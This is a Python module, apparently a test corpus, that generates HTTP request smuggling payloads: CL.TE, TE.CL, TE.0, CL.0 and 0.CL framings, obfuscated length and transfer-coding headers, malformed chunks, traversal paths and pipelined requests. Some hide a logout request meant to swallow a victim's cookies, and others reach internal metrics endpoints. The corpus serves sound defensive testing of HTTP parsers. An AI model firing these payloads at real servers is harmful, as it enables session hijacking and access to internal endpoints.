"""The corpus of requests whose end two servers could see in different places.

Each hides a request of its own in what one reader takes for a body and another for the next request. Sources:
RFC 9112 (sections 6, 7 and 11.2), and the published families CL.TE, TE.CL, TE.TE, TE.0, CL.0 and 0.CL.
"""

from collections.abc import Iterator
from dataclasses import dataclass

PATH = b"/api/v1/categories"
METHODS = (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"POST")

SIGN_OUT = (
    b"DELETE /api/v1/auth/logout HTTP/1.1\r\nHost: localhost\r\nSec-Fetch-Site: same-origin\r\nX-Swallow: "
)
"""Ends within a header, so that the victim's request line becomes its value and her cookies go along."""
METRICS = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"
READINESS = b"GET /readyz HTTP/1.1\r\nHost: localhost\r\nX-Swallow: "


@dataclass(frozen=True, slots=True)
class Attack:
    """Bytes for one connection, and what they are called."""

    name: str
    content: bytes
    method: bytes = b"GET"


def request(
    method: bytes, *headers: bytes, body: bytes = b"", path: bytes = PATH, version: bytes = b"1.1"
) -> bytes:
    """A request with exactly these headers after Host."""
    lines = [method + b" " + path + b" HTTP/" + version, b"Host: localhost", *headers]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def chunked(body: bytes) -> bytes:
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)


def corpus() -> list[Attack]:
    """Every attack."""
    return [*_for_each_method(), *_of_lengths(), *_of_codings(), *_of_chunks(), *_of_heads(), *_of_order()]


def _for_each_method() -> Iterator[Attack]:
    for method in METHODS:
        for inner_name, inner in (("sign-out", SIGN_OUT), ("metrics", METRICS)):
            for name, content in _framings(method, inner):
                yield Attack(f"{method.decode()} {name} {inner_name}", content, method)


def _framings(method: bytes, inner: bytes) -> Iterator[tuple[str, bytes]]:
    length = b"Content-Length: %d" % len(inner)
    coding = b"Transfer-Encoding: chunked"
    packed = chunked(inner)
    yield "TE.0", request(method, coding, body=packed)
    yield "TE.0 named in Connection", request(method, coding, b"Connection: transfer-encoding", body=packed)
    yield "CL.0", request(method, length, body=inner)
    yield "CL.0 named in Connection", request(method, length, b"Connection: content-length", body=inner)
    yield (
        "CL.0 named in a list",
        request(method, b"Connection: x, Content-Length ,keep-alive", length, body=inner),
    )
    yield "0.CL", request(method, b"Content-Length: 0", body=inner)
    yield (
        "0.CL named in Connection",
        request(method, b"Content-Length: 0", b"Connection: content-length", body=inner),
    )
    rest = b"0\r\n\r\n" + inner
    yield "CL.TE", request(method, b"Content-Length: %d" % len(rest), coding, body=rest)
    yield "TE.CL", request(method, coding, b"Content-Length: 4", body=packed)
    yield (
        "TE.CL named in Connection",
        request(method, coding, b"Content-Length: 4", b"Connection: transfer-encoding", body=packed),
    )
    yield "body with Expect", request(method, b"Expect: 100-continue", length, body=inner)
    yield "chunks with Expect", request(method, b"Expect: 100-continue", coding, body=packed)
    yield (
        "body with Upgrade",
        request(method, b"Connection: Upgrade", b"Upgrade: websocket", length, body=inner),
    )
    yield "chunks with Upgrade", request(method, b"Connection: Upgrade", b"Upgrade: h2c", coding, body=packed)
    yield "HTTP/1.0 chunks", request(method, b"Connection: keep-alive", coding, body=packed, version=b"1.0")


_LENGTHS = (
    b"%d\r\nContent-Length: %d", b"%d\r\nContent-Length: 0", b"0\r\nContent-Length: %d", b"%d, %d", b"%d, 0",
    b"0, %d", b"+%d", b"-%d", b"0x%x", b"%d ;a", b"%d %d", b"\x0b%d", b'"%d"', b"%d.0", b"%de0",
    b"99999999999999999999%d", b"\r\n %d", b"%d\r\nContent-Length : 0",
    b"%d\r\n Content-Length: 0", b"0\r\nContent_Length: %d", b"",
)  # fmt: skip


def _of_lengths() -> Iterator[Attack]:
    for number, form in enumerate(_LENGTHS):
        length = form % ((len(METRICS),) * form.replace(b"%x", b"%d").count(b"%d"))
        for method in (b"GET", b"POST"):
            content = request(method, b"Content-Length: " + length, body=METRICS)
            yield Attack(f"{method.decode()} length {number} {length!r}", content, method)


_CODINGS = (
    b"Transfer-Encoding: xchunked", b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: CHUNKED",
    b"Transfer-Encoding: chunked ", b"Transfer-Encoding : chunked", b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: \x0bchunked", b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: chunked;a=b",
    b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: chunked, gzip", b"Transfer-Encoding: identity",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: ,chunked", b"Transfer-Encoding: chunked,", b"Transfer-Encoding:",
    b"Transfer-Encoding: chunk",
    b"transfer-encoding: chunked\r\nTransfer-encoding: x", b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked", b"Transfer-Encoding\x00: chunked", b"Transfer_Encoding: chunked",
    b" Transfer-Encoding: chunked", b"X: y\r\n Transfer-Encoding: chunked",
)  # fmt: skip


def _of_codings() -> Iterator[Attack]:
    for number, coding in enumerate(_CODINGS):
        for method in (b"GET", b"POST"):
            bare = request(method, coding, body=chunked(METRICS))
            yield Attack(f"{method.decode()} coding {number} {coding!r}", bare, method)
            both = request(method, coding, b"Content-Length: 4", body=chunked(METRICS))
            yield Attack(f"{method.decode()} coding and length {number} {coding!r}", both, method)


_CHUNKS = (
    b"%x;a=b\r\n%s\r\n0\r\n\r\n", b'%x;a="\r\n"\r\n%s\r\n0\r\n\r\n', b"%x;\n%s\r\n0\r\n\r\n",
    b"%x\n%s\n0\n\n", b"0x%x\r\n%s\r\n0\r\n\r\n", b"+%x\r\n%s\r\n0\r\n\r\n", b" %x\r\n%s\r\n0\r\n\r\n",
    b"%x \r\n%s\r\n0\r\n\r\n", b"FFFFFFFFFFFFFFFF%x\r\n%s\r\n0\r\n\r\n", b"-%x\r\n%s\r\n0\r\n\r\n",
    b"%x\r\n%sXX0\r\n\r\n", b"%x\r\n%s\r\n0\r\nContent-Length: 60\r\n\r\n",
    b"%x\r\n%s\r\n0\r\nCookie: a=b\r\nX-Undertone-Client: 9.9.9.9\r\n\r\n",
    b"%x\r%s\r0\r\r", b"000000000000%x\r\n%s\r\n0\r\n\r\n", b"%x\r\n%s\r\n0\r\n",
)  # fmt: skip


def _of_chunks() -> Iterator[Attack]:
    for number, form in enumerate(_CHUNKS):
        for method in (b"DELETE", b"POST"):
            body = form % (len(METRICS), METRICS)
            content = request(method, b"Transfer-Encoding: chunked", body=body)
            yield Attack(f"{method.decode()} chunks {number}", content, method)


_ADDRESSES = (
    b"http://localhost/metrics", b"http://127.0.0.1" + PATH, b"*", b"localhost:80", b"/api/../metrics",
    b"/api/%2e%2e/metrics", b"/api/v1/..%2f..%2fmetrics", b"/api/..;/metrics", b"/api\\..\\metrics",
    b"/api/v1/categories HTTP/1.1\r\nX: y", b"//metrics", b"/api//../../metrics",
)  # fmt: skip
_NAMED = (
    b"host", b"cookie", b"sec-fetch-site", b"origin", b"x-undertone-front", b"x-undertone-client",
    b"content-type", b"close, te, trailer", b"\tcontent-length\t", b"content-length\r\nConnection: x",
)  # fmt: skip


def _of_heads() -> Iterator[Attack]:
    """Line ends, folded lines, hosts and addresses."""
    get = b"GET " + PATH + b" HTTP/1.1"
    long = b"Content-Length: %d" % len(METRICS)
    yield Attack("bare LF", get + b"\nHost: localhost\n\n" + METRICS)
    yield Attack("bare LF before a length", get + b"\r\nHost: localhost\n" + long + b"\r\n\r\n" + METRICS)
    yield Attack("bare CR before a length", get + b"\r\nHost: localhost\r" + long + b"\r\n\r\n" + METRICS)
    yield Attack("obs-fold of a length", request(b"GET", b"X: y\r\n " + long, body=METRICS))
    yield Attack("obs-fold of nothing", request(b"GET", b"X:\r\n \r\n\t\r\n" + long, body=METRICS))
    yield Attack("two hosts", get + b"\r\nHost: localhost\r\nHost: evil\r\n" + long + b"\r\n\r\n" + METRICS)
    yield Attack("no host", get + b"\r\n" + long + b"\r\n\r\n" + METRICS)
    yield Attack("a host with a space", get + b"\r\nHost: local host\r\n" + long + b"\r\n\r\n" + METRICS)
    yield Attack("NUL in a header", request(b"GET", b"X: a\x00b", long, body=METRICS))
    yield Attack("a header without a name", request(b"GET", b": x", long, body=METRICS))
    yield Attack("a header without a colon", request(b"GET", b"Content-Length", body=METRICS))
    for path in _ADDRESSES:
        yield Attack(
            f"address {path!r}", request(b"GET", b"Connection: content-length", long, body=METRICS, path=path)
        )
    for version in (b"0.9", b"1.2", b"2.0", b"1.1 ", b"1.1\t", b"11", b"1.1\x00"):
        yield Attack(f"version {version!r}", request(b"GET", long, body=METRICS, version=version))
    for method in (b"TRACE", b"CONNECT", b"PRI", b"get", b"GET\t", b"BREW", b"PATCH", b"PUT"):
        yield Attack(
            f"method {method!r}",
            request(method, b"Transfer-Encoding: chunked", body=chunked(METRICS)),
            method,
        )
    for named in _NAMED:
        yield Attack(
            f"Connection: {named!r}",
            request(b"DELETE", b"Connection: " + named, long, body=METRICS),
            b"DELETE",
        )
    yield Attack("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + METRICS)


def _of_order() -> Iterator[Attack]:
    """Several requests on one connection, whole and broken off."""
    good = request(b"GET")
    delete = request(b"DELETE", b"Content-Length: 2", body=b"{}")
    yield Attack("pipelined reads", good * 3)
    yield Attack("pipelined changes", delete * 3 + good)
    yield Attack(
        "pipelined, then chunks",
        good + request(b"GET", b"Transfer-Encoding: chunked", body=chunked(SIGN_OUT)),
    )
    yield Attack("pipelined, then nonsense", good + b"\x00\x01\x02\r\n\r\n")
    yield Attack("pipelined, then half a head", good + b"DELETE /api/v1/auth/logout HTTP/1.1\r\nX: ")
    yield Attack("empty lines before", b"\r\n\r\n" + good)
    yield Attack("a body that stops", request(b"POST", b"Content-Length: 5000", body=SIGN_OUT), b"POST")
    yield Attack("a DELETE that stops", request(b"DELETE", b"Content-Length: 5000", body=SIGN_OUT), b"DELETE")
    yield Attack(
        "chunks that stop",
        request(b"POST", b"Transfer-Encoding: chunked", body=b"FF\r\n" + SIGN_OUT),
        b"POST",
    )
    yield Attack(
        "a body that goes on", request(b"DELETE", b"Content-Length: 2", body=b"{}" + METRICS), b"DELETE"
    )
    yield Attack(
        "Expect of something else",
        request(b"POST", b"Expect: 200-ok", b"Content-Length: 2", body=b"{}"),
        b"POST",
    )
    yield Attack(
        "Expect, and no body", request(b"POST", b"Expect: 100-continue", b"Content-Length: 900"), b"POST"
    )
